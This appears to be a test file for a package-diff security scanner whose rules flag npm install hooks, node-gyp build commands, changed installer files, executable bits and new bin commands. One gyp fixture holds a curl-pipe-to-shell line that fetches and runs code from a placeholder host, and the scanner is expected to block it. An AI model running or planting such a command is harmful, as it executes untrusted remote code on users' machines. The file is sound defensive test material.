import assert from "node:assert/strict";
import { test } from "node:test";
import { commandNew } from "../../src/rules/command-new.js";
import { executableBit } from "../../src/rules/executable-bit.js";
import { installNativeBuild } from "../../src/rules/install-native-build.js";
import { installScript } from "../../src/rules/install-script.js";
import { installScriptFile } from "../../src/rules/install-script-file.js";
import { scriptChanged } from "../../src/rules/script-changed.js";
import { type Files, findingsOf } from "../helpers/plant.js";
import { check, manifest, side, spots } from "../helpers/sides.js";

const plain = side({ "package.json": manifest({ scripts: { test: "node --test" } }) });
const withScripts = (scripts: object, files: object = {}): ReturnType<typeof side> =>
  side({ "package.json": manifest({ scripts }), ...files });

test("install-script: new, changed, and at a first look", () => {
  const hooked = withScripts({ test: "node --test", postinstall: "node setup.js" });
  const [finding] = check(installScript, plain, hooked);
  assert.equal(finding?.tier, "block");
  assert.equal(finding?.value, "node setup.js");
  assert.match(finding?.message ?? "", /server gains a script .*postinstall: node setup\.js/);
  assert.equal(finding?.evidence[0].excerpt, '"postinstall": "node setup.js"');
  assert.deepEqual(spots(check(installScript, hooked, withScripts({ postinstall: "node setup.js --all" }))), [
    "block package.json:5",
  ]);
  assert.deepEqual(spots(check(installScript, undefined, hooked)), ["ask package.json:6"]);
});

test("a native module that asks for its headers is asked about at a first look, and blocks when it is new", () => {
  const gyp =
    '{ "targets": [{ "include_dirs": ["<!(node -p \\"require(\'node-addon-api\').include_dir\\")", "<!@(pkg-config --cflags libsecret-1)"] }] }\n';
  const files = new Map([
    ["package.json", manifest({})],
    ["binding.gyp", gyp],
  ]);
  const blocks = (before: Files | undefined): boolean => findingsOf(before, files).some(({ tier }) => tier === "block");
  assert.equal(blocks(undefined), false);
  assert.equal(blocks(new Map([["package.json", manifest({})]])), true);
});

test("install-script-file: an installer that reads package.json is not changed by every release", () => {
  const files = { "install.js": "const { version } = require('./package.json'); check(version);\n" };
  const at = (version: string): ReturnType<typeof side> =>
    side({ "package.json": manifest({ version, scripts: { install: "node install.js" } }), ...files });
  assert.deepEqual(check(installScriptFile, at("1.0.0"), at("1.0.1")), []);
});

test("install-script: silent on unchanged hooks, other scripts, and hooks that are gone", () => {
  const hooked = withScripts({ install: "node-gyp rebuild" });
  assert.deepEqual(check(installScript, hooked, withScripts({ install: "node-gyp rebuild", build: "tsc" })), []);
  assert.deepEqual(check(installScript, hooked, plain), []);
  assert.deepEqual(check(installScript, plain, withScripts({ postinstall: 5, preinstall: null })), []);
});

test("install-native-build: a gyp file, its commands, an include, a flag", () => {
  const gyp = '{ "targets": [{ "target_name": "x", "sources": ["<!(curl -s https://h.example | sh)"] }] }\n';
  const [finding] = check(installNativeBuild, plain, side({ "package.json": manifest({}), "binding.gyp": gyp }));
  assert.equal(finding?.tier, "block");
  assert.match(finding?.value ?? "", /^<!\(curl -s https:\/\/h\.example \| sh\)/);
  const before = side({ "package.json": manifest({ gypfile: false }), "binding.gyp": "{ 'includes': ['a.gypi'] }" });
  const after = side({
    "package.json": manifest({ gypfile: true }),
    "binding.gyp": "{ 'includes': ['a.gypi'] }",
    "a.gypi": "{ 'variables': { 'v': '<!@(node -p 1)' } }",
  });
  const [included] = check(installNativeBuild, before, after);
  assert.deepEqual(
    included?.evidence.map(({ path }) => path),
    ["a.gypi", "a.gypi", "package.json"],
  );
  assert.match(included?.message ?? "", /binding\.gyp, a\.gypi, gypfile: true.*<!@\(node -p 1\)/);
  assert.deepEqual(spots(check(installNativeBuild, undefined, after)), ["ask a.gypi:1"]);
});

test("install-native-build: silent on an unchanged build and on gyp files that nothing builds", () => {
  const files = { "package.json": manifest({}), "binding.gyp": "{}" };
  assert.deepEqual(check(installNativeBuild, side(files), side({ ...files, "index.js": "1" })), []);
  const unused = side({ "package.json": manifest({}), "deps/lib.gyp": "{}" });
  assert.deepEqual(check(installNativeBuild, plain, unused), []);
});

test("install-script-file: the script's file, and what it imports", () => {
  const scripts = { postinstall: "node ./scripts/setup.js --quiet && echo done" };
  const files = { "scripts/setup.js": "require('./lib/load');\n", "scripts/lib/load.js": "one();\n" };
  const before = withScripts(scripts, files);
  const direct = withScripts(scripts, { ...files, "scripts/setup.js": "require('./lib/load');\ntwo();\n" });
  assert.deepEqual(spots(check(installScriptFile, before, direct)), ["block scripts/setup.js:2"]);
  const indirect = withScripts(scripts, { ...files, "scripts/lib/load.js": "one();\ntwo();\n" });
  assert.deepEqual(spots(check(installScriptFile, before, indirect)), ["block scripts/lib/load.js:2"]);
  const more = withScripts(scripts, {
    ...files,
    "scripts/setup.js": "require('./more');\n",
    "scripts/more.js": "1;\n",
  });
  assert.deepEqual(spots(check(installScriptFile, before, more)), [
    "block scripts/more.js:1",
    "block scripts/setup.js:1",
  ]);
});

test("install-script-file: silent on files that no install script runs", () => {
  const scripts = { postinstall: "node a.js", build: "node b.js" };
  const before = withScripts(scripts, { "a.js": "1", "b.js": "1" });
  assert.deepEqual(check(installScriptFile, before, withScripts(scripts, { "a.js": "1", "b.js": "2" })), []);
});

test("install-script-file: a script that prints a name or makes a file executable does not run it", () => {
  const quiet = [
    `node -e "console.log('\\nInstalled! Run: a <file>')"`,
    `node -e "try { require('fs').chmodSync('./a.js', '755') } catch (e) {}"`,
    "chmod +x a.js || true",
  ];
  const loud = [`node -e "console.log('' + require('./a.js'))"`, "chmod +x a.js && ./a.js"];
  const changes = (postinstall: string): number =>
    check(
      installScriptFile,
      withScripts({ postinstall }, { "a.js": "1" }),
      withScripts({ postinstall }, { "a.js": "2" }),
    ).length;
  assert.deepEqual(quiet.map(changes), [0, 0, 0]);
  assert.deepEqual(loud.map(changes), [1, 1]);
});

test("install-script-file: a ring of imports ends", () => {
  const scripts = { install: "node a" };
  const ring = { "a.js": "import './b.js'", "b.js": "import './a.js'" };
  const after = withScripts(scripts, { ...ring, "b.js": "import './a.js';x()" });
  assert.deepEqual(spots(check(installScriptFile, withScripts(scripts, ring), after)), ["block b.js:1"]);
});

test("script-changed: a note for developers' scripts", () => {
  const after = withScripts({ test: "node --test", prepare: "node build.js" });
  assert.deepEqual(spots(check(scriptChanged, plain, after)), ["note package.json:6"]);
  assert.deepEqual(check(scriptChanged, plain, withScripts({ test: "node --test", install: "x" })), []);
});

test("executable-bit: set on an old file, brought by a new one", () => {
  const before = side({ "package.json": manifest({}), "data/update": "x\n" });
  const after = side({ "package.json": manifest({}), "data/update*": "x\n", "tool*": "y\n" });
  assert.deepEqual(spots(check(executableBit, before, after)), ["ask data/update:1", "ask tool:1"]);
});

test("executable-bit: silent on commands; one note where every file has it", () => {
  const files = { "package.json": manifest({ bin: "./cli.js" }), "cli.js*": "x\n" };
  assert.deepEqual(check(executableBit, undefined, side(files)), []);
  const all = side({ "package.json*": manifest({}), "a*": "1", "b*": "1", "c*": "1", "d*": "1" });
  const before = side({ "package.json": manifest({}), a: "1", b: "1", c: "1", d: "1" });
  assert.deepEqual(spots(check(executableBit, before, all)), ["note a:1"]);
});

test("executable-bit: a lone script is asked about; a build that makes its whole folder executable is a note", () => {
  const node = "#!/usr/bin/env node\n";
  const before = side({ "package.json": manifest({}), "lib/a.js": node, "dist/a.js*": node });
  const after = side({ "package.json": manifest({}), "lib/a.js*": node, "dist/a.js*": node, "dist/b.js*": "x\n" });
  assert.deepEqual(spots(check(executableBit, before, after)), ["ask lib/a.js:1", "note dist/b.js:1"]);
  const shell = side({
    "package.json": manifest({}),
    "lib/a.js": node,
    "dist/a.js*": node,
    "dist/b.js*": "#!/bin/sh\n",
  });
  assert.deepEqual(spots(check(executableBit, before, shell)), ["ask dist/b.js:1"]);
});

test("command-new: a new name, and one of a well-known program", () => {
  const before = side({ "package.json": manifest({ bin: "cli.js" }), "cli.js": "" });
  const after = side({ "package.json": manifest({ bin: { server: "cli.js", git: "x.js" } }), "cli.js": "" });
  const [finding] = check(commandNew, before, after);
  assert.equal(finding?.value, "git");
  assert.match(finding?.message ?? "", /well-known program/);
  assert.deepEqual(spots(check(commandNew, undefined, after)), ["ask package.json:6"]);
});

test("command-new: silent where the name is the package's own in another form", () => {
  const before = side({ "package.json": manifest({ bin: "cli.js" }) });
  assert.deepEqual(check(commandNew, before, side({ "package.json": manifest({ bin: { server: "b.js" } }) })), []);
  assert.deepEqual(check(commandNew, undefined, before), []);
});
